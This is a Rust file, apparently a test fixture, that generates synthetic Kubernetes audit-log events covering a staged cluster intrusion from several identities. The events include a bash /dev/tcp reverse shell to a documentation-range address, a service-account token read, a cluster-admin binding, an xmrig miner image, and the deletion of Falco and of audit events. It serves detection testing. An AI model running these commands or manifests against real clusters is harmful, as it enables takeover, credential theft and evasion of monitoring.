//! The same intrusion by anybody: who sends it, and what is sent.

use serde_json::{Value, json};

/// Who sends something.
#[derive(Clone, Copy)]
pub(crate) struct Identity {
    pub(crate) user: &'static str,
    pub(crate) groups: &'static [&'static str],
    pub(crate) address: &'static str,
    pub(crate) agent: &'static str,
    /// Whom it impersonates in everything.
    pub(crate) acts_as: Option<&'static str>,
    /// The pod and node that its token is bound to.
    pub(crate) pod: Option<[&'static str; 2]>,
}

pub(crate) const KUBECTL: &str = "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
pub(crate) const MANAGER: &str = "kube-controller-manager/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
pub(crate) const HOME: &str = "10.0.0.1";
pub(crate) const AWAY: &str = "10.9.9.9";
pub(crate) const ACCOUNT: &[&str] = &["system:serviceaccounts", "system:authenticated"];

pub(crate) const fn identity(user: &'static str, groups: &'static [&'static str], agent: &'static str) -> Identity {
    Identity { user, groups, address: AWAY, agent, acts_as: None, pod: None }
}

/// An event of `who`, `seconds` after the beginning.
pub(crate) fn event(who: Identity, seconds: u64, verb: &str, object: Value, code: u16, body: Option<Value>) -> Value {
    let time =
        |seconds: u64| format!("2026-11-25T{:02}:{:02}:{:02}.000000Z", seconds / 3600, seconds / 60 % 60, seconds % 60);
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request", "stage": "ResponseComplete",
        "auditID": format!("{:08x}-0000-4000-8000-{:012x}", seconds, who.user.len() as u64 * 4096 + verb.len() as u64),
        "requestURI": format!("/apis/{}/{}", object["resource"].as_str().unwrap_or(""), object["name"].as_str().unwrap_or("")),
        "verb": verb, "user": {"username": who.user, "groups": who.groups}, "sourceIPs": [who.address],
        "userAgent": who.agent, "objectRef": object, "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": time(seconds), "stageTimestamp": time(seconds),
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }}
    });
    if let Some(body) = body {
        event["requestObject"] = body;
    }
    if let Some(user) = who.acts_as {
        event["impersonatedUser"] = json!({"username": user, "groups": ["system:authenticated"]});
    }
    if let Some([pod, node]) = who.pod {
        event["user"]["extra"] = json!({"authentication.kubernetes.io/pod-name": [pod],
            "authentication.kubernetes.io/node-name": [node]});
    }
    event
}

/// An intrusion, as somebody.
pub(crate) fn attack(who: Identity, begins: u64) -> Vec<Value> {
    let core = |resource: &str, namespace: &str, name: &str| json!({"resource": resource, "namespace": namespace, "name": name, "apiVersion": "v1"});
    let all = |resource: &str| json!({"resource": resource, "apiVersion": "v1"});
    let rbac = |resource: &str, name: &str| json!({"resource": resource, "name": name, "apiGroup": "rbac.authorization.k8s.io", "apiVersion": "v1"});
    let mut events = Vec::new();
    let mut at = begins;
    let mut does = |verb: &str, object: Value, code: u16, body: Option<Value>| {
        at += 1;
        events.push(event(who, at, verb, object, code, body));
    };
    for resource in ["namespaces", "nodes", "clusterroles", "serviceaccounts", "secrets"] {
        does("list", all(resource), 200, None);
    }
    for name in ["a", "b", "c", "d"] {
        does("get", core("secrets", "prod", name), 200, None);
    }
    for name in ["1", "2", "3", "4", "5", "6", "7", "8", "9"] {
        does("create", core("pods", &format!("ns-{name}"), name), 403, None);
    }
    let role = json!({"kind": "ClusterRole", "metadata": {"name": "quiet"},
        "rules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}]});
    does("create", rbac("clusterroles", "quiet"), 201, Some(role));
    let binding = json!({"kind": "ClusterRoleBinding", "metadata": {"name": "quiet"},
        "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "User", "name": "friend"}]});
    does("create", rbac("clusterrolebindings", "quiet"), 201, Some(binding));
    let secret = json!({"kind": "Secret", "metadata": {"name": "t"}, "type": "kubernetes.io/service-account-token"});
    does("create", core("secrets", "kube-system", "t"), 201, Some(secret));
    let token = json!({"resource": "serviceaccounts", "subresource": "token", "namespace": "kube-system", "name": "default", "apiVersion": "v1"});
    does("create", token, 201, Some(json!({"kind": "TokenRequest", "spec": {"expirationSeconds": 315_360_000}})));
    let workload = json!({"kind": "DaemonSet", "metadata": {"name": "evil"}, "spec": {"template": {"spec": {"hostPID": true,
        "containers": [{"name": "c", "image": "evil", "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"],
            "securityContext": {"privileged": true}}]}}}});
    let daemons = json!({"resource": "daemonsets", "namespace": "kube-system", "name": "evil", "apiGroup": "apps", "apiVersion": "v1"});
    does("create", daemons, 201, Some(workload));
    does("patch", core("configmaps", "kube-system", "coredns"), 200, Some(json!({"data": {"Corefile": "."}})));
    does(
        "create",
        core("services", "prod", "door"),
        201,
        Some(json!({"kind": "Service", "spec": {"type": "NodePort"}})),
    );
    does("deletecollection", json!({"resource": "events", "namespace": "prod", "apiVersion": "v1"}), 200, None);
    let policy = json!({"resource": "networkpolicies", "namespace": "prod", "name": "deny", "apiGroup": "networking.k8s.io", "apiVersion": "v1"});
    does("delete", policy, 200, None);
    events.extend(further(who, at + 1));
    events
}

/// What goes on, into pods and nodes, at what guards the cluster, and out of sight: verb, object, status, and members of
/// the event. An object is told as `group resource namespace name subresource`, with a `-` for what it does not have.
type Deed = (&'static str, &'static str, u16, Value);

fn further(who: Identity, begins: u64) -> Vec<Value> {
    let deeds = [into_pods(), into_the_cluster(), workloads(), at_the_levers(), out_of_sight(begins)].concat();
    let event = |(at, (verb, object, code, more)): (u64, Deed)| {
        let parts = ["apiGroup", "resource", "namespace", "name", "subresource"].into_iter().zip(object.split(' '));
        let parts = parts.filter(|(_, part)| *part != "-").map(|(key, part)| (key.to_owned(), json!(part)));
        let mut event = event(who, at, verb, Value::Object(parts.collect()), code, None);
        if let (Value::Object(all), Value::Object(more)) = (&mut event, more) {
            all.extend(more);
        }
        event
    };
    (begins..).zip(deeds).map(event).collect()
}

fn into_pods() -> Vec<Deed> {
    let exec = |command: &str| json!({"requestURI": format!("/api/v1/namespaces/prod/pods/web/exec?{command}")});
    let debugger = json!({"requestObject": {"spec": {"ephemeralContainers": [{"name": "d", "image": "i"}]}}});
    let token = "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken";
    let shell = "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F443+0%3E%261";
    vec![
        ("get", "- pods prod web exec", 101, exec(token)),
        ("get", "- pods prod web exec", 101, exec(shell)),
        ("create", "- pods prod web exec", 403, exec("command=id")),
        ("get", "- pods prod web portforward", 101, json!({})),
        ("patch", "- pods prod web ephemeralcontainers", 200, debugger),
        ("create", "- nodes - n proxy", 200, json!({"requestURI": "/api/v1/nodes/n/proxy/run/prod/web/c?cmd=id"})),
        ("get", "- services prod s proxy", 200, json!({"requestURI": "/api/v1/namespaces/prod/services/s/proxy/v1"})),
    ]
}

fn into_the_cluster() -> Vec<Deed> {
    let request = json!({"kind": "CertificateSigningRequest", "metadata": {"name": "r"}, "spec": {
        "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}});
    let volume = json!({"kind": "PersistentVolume", "metadata": {"name": "v"}, "spec": {"hostPath": {"path": "/"}}});
    vec![
        ("create", "certificates.k8s.io certificatesigningrequests - r -", 201, json!({"requestObject": request})),
        ("update", "certificates.k8s.io certificatesigningrequests - r approval", 200, json!({})),
        ("delete", "admissionregistration.k8s.io validatingwebhookconfigurations - guard -", 200, json!({})),
        ("create", "- persistentvolumes - v -", 201, json!({"requestObject": volume})),
        ("create", "- nodes - n -", 201, json!({})),
        ("patch", "rbac.authorization.k8s.io clusterroles - system:node -", 200, json!({})),
    ]
}

fn workloads() -> Vec<Deed> {
    let template = |image: &str| {
        let spec = json!({"template": {"spec": {"containers": [{"name": "c", "image": image}]}}});
        json!({"requestObject": {"kind": "Deployment", "metadata": {"name": "shop"}, "spec": spec}})
    };
    let pod = json!({"spec": {"containers": [{"name": "c", "image": "docker.io/xmrig/xmrig"}]}});
    let job = json!({"kind": "CronJob", "metadata": {"name": "j"}, "spec": {"schedule": "* * * * *",
        "jobTemplate": {"spec": {"template": pod}}}});
    let mirror = json!({"kind": "Pod", "metadata": {"name": "s", "annotations": {"kubernetes.io/config.mirror": "1"}},
        "spec": {"containers": [{"name": "c", "image": "i"}]}});
    let secret = json!({"kind": "ConfigMap", "metadata": {"name": "c"}, "data": {"password": "hunter2hunter2"}});
    let argo = json!({"metadata": {"labels": {"argocd.argoproj.io/instance": "shop"}}});
    vec![
        ("create", "apps deployments prod shop -", 201, template("r/shop:1")),
        ("update", "apps deployments prod shop -", 200, template("evil/shop:1")),
        ("patch", "apps deployments prod shop -", 200, json!({"requestObject": argo})),
        ("create", "batch cronjobs prod j -", 201, json!({"requestObject": job})),
        ("create", "- pods kube-system s -", 201, json!({"requestObject": mirror})),
        ("update", "- configmaps prod c -", 200, json!({"requestObject": secret})),
    ]
}

fn at_the_levers() -> Vec<Deed> {
    let first =
        json!({"requestObject": {"kind": "FlowSchema", "metadata": {"name": "f"}, "spec": {"matchingPrecedence": 1}}});
    vec![
        ("create", "- pods falco falco-x eviction", 201, json!({})),
        ("create", "flowcontrol.apiserver.k8s.io flowschemas - f -", 201, first),
        ("delete", "apps daemonsets falco falco -", 200, json!({})),
        ("patch", "apps deployments prod shop scale", 200, json!({"requestObject": {"spec": {"replicas": 0}}})),
        ("get", "- - - - -", 200, json!({"requestURI": "/debug/pprof/heap"})),
    ]
}

fn out_of_sight(begins: u64) -> Vec<Deed> {
    let violates = json!({"annotations": {"authorization.k8s.io/decision": "allow",
        "pod-security.kubernetes.io/audit-violations": "would violate PodSecurity"}});
    let refused = json!({"annotations": {"authorization.k8s.io/decision": "allow"}, "responseStatus": {"metadata": {},
        "code": 403, "message": "pods \"h\" is forbidden: violates PodSecurity \"restricted:latest\""}});
    let powerful = json!({"impersonatedUser": {"username": "admin", "groups": ["system:masters"]}});
    vec![
        ("create", "authorization.k8s.io selfsubjectrulesreviews - - -", 201, json!({})),
        ("get", "- secrets prod a -", 200, json!({"userAgent": "python-requests/2.32"})),
        ("get", "- secrets prod a -", 200, json!({"sourceIPs": ["203.0.113.7"]})),
        ("get", "- secrets prod a -", 200, powerful),
        ("get", "- secrets prod a -", 200, json!({"auditID": format!("by hand {begins}")})),
        ("create", "- pods kube-system h -", 201, violates),
        ("create", "- pods kube-system h -", 403, refused),
    ]
}
